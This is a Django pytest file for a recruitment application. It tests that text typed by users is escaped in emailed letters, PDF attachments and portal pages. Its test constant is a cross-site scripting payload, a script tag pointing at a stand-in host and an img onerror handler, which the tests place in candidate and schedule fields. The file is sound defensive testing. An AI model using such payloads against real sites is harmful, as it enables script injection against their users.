"""What somebody typed is text wherever a client reads it: letter, PDF and portal."""

from __future__ import annotations

from datetime import date, timedelta

import pytest
from django.test import Client
from django.urls import reverse

from mailings.models import Letter
from processes.models import Presentation
from processes.schedules.lines import Why
from processes.schedules.sending import send
from recruitcrm.chores import do_all
from tests.cast import NOW, Cast
from tests.processes.presentations.shortlist import Shortlist

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("quick_pdf")]
TYPED = '"><script src="//evil.example"></script><img src=x onerror=alert(1)>'
LATER = NOW + timedelta(hours=2)


def is_text(html: str) -> bool:
    return "<script src" not in html and "<img src=x" not in html and "&lt;script" in html


def test_in_a_presentation(client: Client, cast: Cast) -> None:
    shortlist = Shortlist(cast)
    argued = [("yes", f"Evidence {TYPED}")] * 3
    shortlist.argue(shortlist.amira, argued, recommendation=TYPED)
    shortlist.amira.risk = TYPED
    shortlist.amira.save()
    type(cast.amira).objects.filter(pk=cast.amira.pk).update(
        last_name=TYPED[:80], headline=TYPED, expects=TYPED[:60], city=TYPED[:60]
    )
    shortlist.sent(shortlist.amira, introduction=f"We spoke.\n\n{TYPED}")
    do_all(LATER)
    letter, sent = Letter.objects.get(kind="presentation"), Presentation.objects.get()
    assert is_text(letter.html)
    assert is_text(bytes(letter.attachments.get().content).decode())
    client.force_login(cast.sits_in_portal(cast.sara))
    page = client.get(reverse("portal_presentation", args=[sent.pk]))
    assert page.status_code == 200
    assert is_text(page.content.decode())


def test_in_a_schedule_and_why_it_has_changed(client: Client, cast: Cast) -> None:
    payroll = cast.payroll()
    line = payroll.activities.get(milestone="interviews")
    type(line).objects.filter(pk=line.pk).update(text=TYPED, texts={})
    send(payroll, by=cast.nina, at=NOW)
    line = payroll.activities.get(milestone="interviews")
    line.move_to(date(2026, 12, 1), by=cast.nina, at=NOW, why=Why(f"Away {TYPED}"))
    do_all(NOW + timedelta(days=4))
    letters = list(Letter.objects.filter(kind="schedule"))
    assert len(letters) == 4
    for letter in letters:
        assert is_text(letter.html)
        assert is_text(bytes(letter.attachments.get().content).decode())
    client.force_login(cast.sits_in_portal(cast.sara))
    page = client.get(reverse("portal_assignment", args=[payroll.pk])).content.decode()
    assert "Away" in page and is_text(page)
